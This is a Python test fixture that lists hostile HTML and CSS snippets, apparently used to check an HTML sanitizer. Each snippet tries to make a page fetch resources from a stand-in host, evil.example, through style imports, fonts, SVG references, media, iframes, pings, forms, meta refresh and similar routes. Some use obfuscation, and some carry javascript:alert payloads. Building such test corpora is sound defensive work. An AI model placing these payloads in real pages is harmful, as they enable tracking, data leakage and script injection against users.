"""Bodies that want to ask somebody else for something that is no picture: style sheets, fonts, films, pings."""

from __future__ import annotations

from typing import Final

from tests.hostile.scripts import Family, numbered

EVIL: Final = "https://evil.example"
STYLES: Final[Family] = numbered(
    f"<style>@import '{EVIL}/a.css';</style>",
    f"<style>@import url({EVIL}/a.css);</style>",
    f"<style>@\\69mport url({EVIL}/a.css);</style>",
    f"<style>@IMPORT/**/'{EVIL}/a.css';</style>",
    f"<style>@font-face{{font-family:f;src:url({EVIL}/f.woff)}}p{{font-family:f}}</style>",
    f"<style>@import 'data:text/css,@import \"{EVIL}/a.css\"';</style>",
    f"<style>p{{filter:url({EVIL}/f.svg#x)}}</style>",
    "<style>p{background:url('javascript:alert(1)')}</style>",
    "<style>p{width:expression(alert(1))}</style>",
    f"<style>p{{-moz-binding:url({EVIL}/x.xml#x);behavior:url({EVIL}/x.htc)}}</style>",
    f"<p style=\"filter:url('{EVIL}/f.svg#x')\">一</p>",
    f"<p style='clip-path:url({EVIL}/f.svg#x);mask:url({EVIL}/m.svg#x)'>一</p>",
    f"<p style='offset-path:url({EVIL}/f.svg#x);shape-outside:url({EVIL}/s.png);float:left'>一</p>",
    f"<p style='width:e\\78pression(alert(1));behavior:url({EVIL}/x.htc)'>一</p>",
    "<p style='background:url(javascript:alert(1))'>一</p>",
    f"<svg><rect width=9 height=9 fill='url({EVIL}/p.svg#x)' filter='url({EVIL}/f.svg#x)' /></svg>",
    f"<svg><rect width=9 height=9 style='mask:url({EVIL}/p.svg#x);marker:url({EVIL}/m.svg#x)' /></svg>",
    f"<svg><style>@import '{EVIL}/a.css';</style></svg>",
    f"<link rel=stylesheet href={EVIL}/a.css>",
    f"<link rel=preload as=script href={EVIL}/a.js><link rel=prefetch href={EVIL}/a.html>",
    f"<link rel=stylesheet href='' imagesrcset='{EVIL}/a.png'>",
    f"<link rel=manifest href={EVIL}/m.json><link rel=icon href={EVIL}/i.ico><link rel=dns-prefetch href={EVIL}>",
    f"<svg><link xmlns='http://www.w3.org/1999/xhtml' rel=stylesheet href={EVIL}/a.css></svg>",
)
MEDIA: Final[Family] = numbered(
    f"<video src={EVIL}/v.mp4 autoplay muted></video>",
    f"<video autoplay><source src={EVIL}/v.mp4><track default src={EVIL}/t.vtt></video>",
    f"<audio src={EVIL}/a.mp3 autoplay></audio>",
    f"<video preload=auto><source src={EVIL}/v.mp4></video>",
    "<video src='/v.mp4'><track default kind=captions src='/t.vtt'></video>",
    f"<bgsound src={EVIL}/a.mid>",
    f"<embed src={EVIL}/a.swf><object data={EVIL}/a.swf></object>",
    f"<object type='image/svg+xml' data={EVIL}/a.svg></object>",
    f"<iframe src={EVIL}/></iframe><frame src={EVIL}/>",
    "<iframe src='https://finance.sina.com.cn@evil.example/'></iframe>",
    "<iframe src='https://finance.sina.com.cn\\@evil.example/'></iframe>",
    f"<svg><use href='{EVIL}/u.svg#x'></use></svg>",
    "<svg><use xlink:href='/u.svg#x'></use></svg>",
    f"<svg><filter id=f><feImage href='{EVIL}/i.svg#x'/></filter><rect filter='url(#f)' width=9 height=9 /></svg>",
    f"<svg><foreignObject><iframe src={EVIL}/></iframe></foreignObject></svg>",
    f"<svg><tref href='{EVIL}/u.svg#x'>一</tref><mpath href='{EVIL}/u.svg#x'/></svg>",
    f"<img attributionsrc={EVIL}/r src=a.png><a attributionsrc={EVIL}/r href=#>一</a>",
    f"<a ping={EVIL}/p href='#top'>一</a>",
    f"<area ping={EVIL}/p href='#top'>",
    f"<form action={EVIL}/><input name=a><button>一</button></form>",
    f"<button formaction={EVIL}/ form=x>一</button><input type=submit formaction={EVIL}/>",
    f"<html manifest={EVIL}/m><body background={EVIL}/b.png>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/'><base href={EVIL}/><a href=x>一</a>",
    f"<portal src={EVIL}/></portal><fencedframe src={EVIL}/></fencedframe>",
    f"<math><mglyph src={EVIL}/g.svg></math><applet archive={EVIL}/a.jar code=A></applet>",
    f"<table background={EVIL}/t.png><td>一</table>",
    f"<img src={EVIL}/p.png srcset='{EVIL}/q.png 2x'><picture><source srcset={EVIL}/r.webp><img src=x></picture>",
    f'<script type=speculationrules>{{"prefetch":[{{"urls":["{EVIL}/s"]}}]}}</script>',
    f"<template shadowrootmode=open><link rel=stylesheet href={EVIL}/a.css></template>",
    f"<input type=image src={EVIL}/i.png><isindex src={EVIL}/x>",
)


def requests() -> dict[str, str]:
    """Return every family's members, by family and name."""
    families = {"style": STYLES, "media": MEDIA}
    return {f"{family}: {name}": markup for family, each in families.items() for name, markup in each.items()}
